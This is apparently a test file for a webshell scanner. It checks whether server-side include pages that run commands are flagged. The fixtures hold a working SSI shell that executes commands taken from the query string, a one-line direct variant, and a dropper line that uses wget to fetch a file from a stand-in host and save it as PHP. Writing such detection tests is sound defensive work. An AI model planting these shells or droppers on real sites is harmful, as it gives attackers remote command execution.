"""Server-side include pages that run commands (ssi.py), issue 14. Snippets written here; names made up."""

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, php, ssi


def _signals(page):
    ev = php.Evidence()
    ssi.score_ssi(page.lower(), ev)
    return ev.found


QUERY_SHELL = """<!--#set var="c" value="" -->
<!--#if expr="$QUERY_STRING_UNESCAPED = \\$c" --><!--#set var="cmd" value="id" -->
<!--#else --><!--#set var="cmd" value=$QUERY_STRING_UNESCAPED --><!--#endif -->
<html><pre><!--#exec cmd=$cmd --></pre></html>"""


def test_a_command_taken_from_the_query_string_is_a_shell():
    assert _signals(QUERY_SHELL)["ssi_request_command"] == ssi.REQUEST_COMMAND
    assert analyse.analyse("site/admin.shtml", QUERY_SHELL.encode(), 10, [])["kind"] == "webshell"
    direct = '<!--#exec cmd="${QUERY_STRING}" -->'
    assert "ssi_request_command" in _signals(direct)


def test_a_command_saving_a_php_file_is_a_dropper():
    page = '<!--#exec cmd="{wget,https://203.0.113.9/m.txt,-O,../../m.php}" -->'
    assert "ssi_command_writes_script" in _signals(page)
    assert analyse.analyse("site/x.shtml", page.encode(), 10, [])["kind"] == "webshell"


def test_an_ordinary_ssi_page_is_not_flagged():
    """Includes and echoes are what SSI is for; a fixed command is weak evidence only."""
    page = ('<!--#include virtual="/header.html" --><p>Updated <!--#echo var="LAST_MODIFIED" --></p>\n'
            '<!--#set var="title" value="$DOCUMENT_NAME" --><!--#exec cgi="/cgi-bin/counter.cgi" -->')
    found = _signals(page)
    assert found == {"ssi_exec_command": ssi.COMMAND}
    assert analyse.analyse("site/index.shtml", page.encode(), 10, [])["kind"] is None
    assert _signals("<p>no directives here</p>") == {}
